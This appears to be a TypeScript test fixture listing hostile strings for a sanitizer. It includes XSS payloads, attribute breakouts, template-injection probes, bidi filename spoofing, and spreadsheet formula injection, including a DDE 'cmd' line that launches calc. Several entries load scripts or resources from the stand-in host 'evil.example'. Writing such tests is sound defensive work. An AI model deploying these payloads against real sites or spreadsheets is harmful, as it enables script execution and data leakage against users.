// Texts that would run, load or calculate something where they are taken for more than text. Whatever runs sets the mark.

/** Set on `window` by an attack that ran. */
export const ranMark = '__ran';
/** Any request to it is a leak. */
export const outsideHost = 'evil.example';

const run = `window.${ranMark}=1`;

export const markupAttacks: readonly string[] = [
  `<script>${run}</script>`,
  `<scr<script>ipt>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img src="https://${outsideHost}/pixel.png">`,
  `<svg onload="${run}"><circle/></svg>`,
  `<svg><script href="https://${outsideHost}/x.js"></script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<a href="javascript:${run}">enlace</a>`,
  `<a href=" jav&#x09;ascript:${run}">enlace</a>`,
  `<a href="data:text/html,<script>${run}</script>">datos</a>`,
  `<iframe srcdoc="<script>parent.${ranMark}=1</script>"></iframe>`,
  `<iframe src="https://${outsideHost}/"></iframe>`,
  `<object data="https://${outsideHost}/x.swf"></object>`,
  `<div style="background:url(https://${outsideHost}/x);width:expression(${run})">estilo</div>`,
  `<style>@import 'https://${outsideHost}/x.css';</style>`,
  `<link rel=stylesheet href="https://${outsideHost}/x.css">`,
  `<meta http-equiv="refresh" content="0;url=https://${outsideHost}/">`,
  `<form action="https://${outsideHost}/"><input autofocus onfocus="${run}">`,
  `<details open ontoggle="${run}">`,
  `</textarea></title></script><script>${run}</script>`,
  `"><img src=x onerror=${run}>`,
  `' onmouseover='${run}' x='`,
  '<b><i>sin cerrar',
  '<!-- sin cerrar',
  `{{constructor.constructor("${run}")()}} \${${run}} <%= 7*7 %>`,
  '\u202Egnp.exe\u202C \u2066oculto\u2069',
  `=HYPERLINK("https://${outsideHost}","ver")`,
  `+cmd|' /C calc'!A0`,
  '-2+3+cmd',
  '@SUM(1+1)',
];
